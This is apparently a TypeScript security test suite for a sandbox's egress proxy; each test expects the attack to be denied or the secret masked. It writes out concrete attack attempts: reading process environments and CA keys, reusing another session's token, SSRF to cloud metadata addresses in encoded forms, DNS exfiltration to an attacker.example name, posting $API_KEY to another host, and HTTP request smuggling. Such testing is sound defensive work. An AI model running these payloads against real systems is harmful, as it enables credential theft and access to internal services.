/** What a program of a sandbox may try, to get at a secret or out of its network, and what it gets. */

export interface Surroundings {
  /** The port of a server with TLS: as `localhost` it may get the secret, and as `127.0.0.1` it is another host. */
  readonly port: number;
  readonly plainPort: number;
  /** `host:port` of the egress proxy, which programs are not told. */
  readonly proxy: string;
  /** What another session's relay says to the proxy, and a placeholder of that session. */
  readonly other: { readonly caller: string; readonly token: string; readonly placeholder: string };
}

/** `expected` is matched with what the command prints. */
type Try = readonly [name: string, command: string, expected: RegExp];

/** Bytes as they are, through the proxy or to it. It prints what comes back, until nothing more does. */
const RAW = `
import { connect } from 'node:net';
import { connect as secure } from 'node:tls';
const { at, greeting = '', to, sni, send } = JSON.parse(process.argv[2]);
const cut = at.lastIndexOf(':');
const socket = connect(Number(at.slice(cut + 1)), at.slice(0, cut));
const said = (text) => process.stdout.write(text);
const ended = () => { said('closed'); process.exit(); };
const silent = (ms) => { clearTimeout(silent.timer); silent.timer = setTimeout(ended, ms); };
socket.on('error', ended).on('close', ended);
socket.write(greeting + 'CONNECT ' + to + ' HTTP/1.1\\r\\nHost: ' + to + '\\r\\n\\r\\n');
silent(8000);
socket.once('data', (head) => {
  said(String(head).split('\\r\\n')[0] + ' | ');
  if (send === undefined || !String(head).startsWith('HTTP/1.1 200')) return void setTimeout(ended, 50);
  const tls = secure({ socket, servername: sni, rejectUnauthorized: false });
  tls.on('error', ended).on('close', ended).on('data', (data) => { silent(300); said(data); });
  tls.write(send.replaceAll('$API_KEY', process.env.API_KEY));
});
`;
const RELAY = '127.0.0.1:3128';

const raw = (options: {
  readonly to: string;
  readonly at?: string;
  readonly greeting?: string;
  readonly sni?: string;
  readonly send?: string;
}) => `node /tmp/raw.mjs '${JSON.stringify({ at: RELAY, ...options })}'`;

/** One shell script that makes all tries, and the reader of what it prints. */
export function scriptOf(tries: readonly Try[]): string {
  const each = tries.map(([name, command]) => `echo; echo '== ${name}'; { ${command}; } 2>&1 | head -c 1500`);
  return [`cat > /tmp/raw.mjs <<'END'${RAW}END`, ...each].join('\n');
}

/** The tries that did not get what is expected, with what they got. */
export function failedIn(tries: readonly Try[], printed: string): readonly (readonly [string, string])[] {
  const parts = printed.split(/^== /m).slice(1);
  const got = new Map(parts.map((part) => [part.split('\n', 1)[0], part.slice(part.indexOf('\n') + 1).trim()]));
  return tries.flatMap(([name, , expected]) => {
    const text = got.get(name) ?? 'nothing';
    return expected.test(text) ? [] : [[name, text] as const];
  });
}

export function triesIn({ port, plainPort, proxy, other }: Surroundings): readonly Try[] {
  const api = `https://localhost:${port}`;
  const elsewhere = `https://127.0.0.1:${port}`;
  const to = `localhost:${port}`;
  const within = (first: string, ...lines: readonly string[]) => ({
    to,
    sni: 'localhost',
    send: [first, ...lines, '', ''].join('\r\n'),
  });
  const stolen = within('GET /never/stolen HTTP/1.1', `Host: ${to}`, `X-Key: ${other.placeholder}`);
  const greeting = `EGRESS ${other.caller} ${other.token}\n`;
  const curl = 'curl -sS -m 10 -H "X-Key: $API_KEY"';
  return [
    // What is in the sandbox.
    ['environment', "env | grep -c '[c]nry-'", /^0$/],
    ['processes', "cat /proc/*/environ /proc/*/cmdline 2>/dev/null | grep -ac '[c]nry-'", /^0$/],
    ['memory of the proxy', "cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' ' | grep -c '[e]gress-proxy'", /^0$/],
    ['key of the authority', "cat $CURL_CA_BUNDLE $SSL_CERT_FILE | grep -c 'PRIVATE KEY'", /^0$/],
    ['key of the authority, by the proxy', 'curl -sS http://127.0.0.1:3128/ca-key.pem', /^(?![^]*PRIVATE)/],
    ['the trusted authorities', 'echo x >> "$CURL_CA_BUNDLE"', /denied|read-only/i],
    // The proxy itself.
    ['no greeting', raw({ at: proxy, to }), /^(?:closed|HTTP\/1\.1 4)/],
    [
      'a guessed token',
      raw({ at: proxy, greeting: `EGRESS ${other.caller} guess\n`, to }),
      /^(?:closed|HTTP\/1\.1 407)/,
    ],
    ['the token of another session', raw({ at: proxy, greeting, ...stolen }), /^(?:closed|HTTP\/1\.1 407)/],
    ['a second greeting', raw({ greeting, ...stolen }), /^(?:closed|HTTP\/1\.1 400)/],
    ['the placeholder of another session', `curl -sS -H "X-Key: ${other.placeholder}" ${api}/deputy`, /placeholder_/],
    // Where the proxy goes.
    ['a private address', raw({ to: '10.0.0.1:443' }), /^HTTP\/1\.1 403/],
    ['the metadata of a machine', raw({ to: '169.254.169.254:80' }), /^HTTP\/1\.1 403/],
    ['the metadata of a task', `${curl} http://169.254.170.2/v2/credentials`, /metadata address/],
    ['an address within IPv6', raw({ to: '[::ffff:169.254.169.254]:80' }), /^HTTP\/1\.1 403/],
    ['an address as one number', raw({ to: '2852039166:80' }), /^HTTP\/1\.1 403/],
    ['an address in hex and octal', raw({ to: '0xa9.0376.43518:80' }), /^HTTP\/1\.1 403/],
    ['a private name', raw({ to: 'metadata.google.internal:80' }), /^HTTP\/1\.1 403/],
    ['a port of mail', raw({ to: 'localhost:25' }), /^HTTP\/1\.1 403/],
    ['a redirect to the metadata', `${curl} -L '${api}/hop?to=http://169.254.169.254/'`, /metadata address/],
    ['a redirect to another host', `${curl} -kL '${api}/hop?to=${elsewhere}/landed'`, /placeholder_/],
    ['around the proxy', `${curl} -m 3 --noproxy '*' ${api}/never/direct`, /curl: \(\d+\)/],
    ['names that carry data', 'getent hosts cnry.attacker.example || echo none', /^none$/],
    // Requests that two servers read differently.
    ['another Host', `${curl} -H "Host: 127.0.0.1:${port}" ${api}/never/host`, /Host/],
    [
      'two Hosts',
      raw(within('GET /never/hosts HTTP/1.1', `Host: ${to}`, 'Host: evil.example')),
      /HTTP\/1\.1 4(?:00|21)/,
    ],
    [
      'another SNI',
      raw({ ...within('GET /never/sni HTTP/1.1', `Host: ${to}`), sni: 'evil.example' }),
      /200[^/]*closed$/,
    ],
    ['another host in the path', raw(within(`GET ${elsewhere}/never/path HTTP/1.1`, `Host: ${to}`)), /HTTP\/1\.1 400/],
    [
      'two lengths',
      raw(
        within(
          ...([
            'POST /never/lengths HTTP/1.1',
            `Host: ${to}`,
            'Content-Length: 4',
            'Transfer-Encoding: chunked',
          ] as const),
          ...['', '0', '', 'GET /never/smuggled HTTP/1.1', `Host: ${to}`, 'X-Key: $API_KEY'],
        ),
      ),
      /HTTP\/1\.1 400/,
    ],
    ['HTTP/2', `${curl} --http2 -o /dev/null -w '%{http_version}' ${api}/two`, /^1\.1$/],
    ['a WebSocket', `${curl} -H 'Connection: Upgrade' -H 'Upgrade: websocket' ${api}/never/socket`, /WebSocket/],
    ['TRACE', `${curl} -X TRACE ${api}/never/trace`, /TRACE/],
    // Where the secret goes, and how it comes back.
    ['the secret in a URL', `curl -sS "${api}/url?key=$API_KEY"`, /^\{/],
    ['the secret in a Referer', `curl -sS -e "${api}/$API_KEY" ${api}/referer`, /placeholder_/],
    ['the secret to another host', `${curl} -k -d "$API_KEY" ${elsewhere}/attacker`, /placeholder_/],
    ['the secret without TLS', `${curl} http://localhost:${plainPort}/plain`, /placeholder_/],
    [
      'the secret in a compressed body',
      `printf %s "$API_KEY" | gzip | curl -sS -H 'Content-Encoding: gzip' --data-binary @- ${api}/never/gzip`,
      /compressed/,
    ],
    ['an echo in base64', `curl -sS -u "$API_KEY:" ${api}/basic`, /Basic placeholder_/],
    ['an echo in hex', `curl -sS -d "$API_KEY" '${api}/echo?as=hex'`, /"body":"placeholder_/],
  ];
}
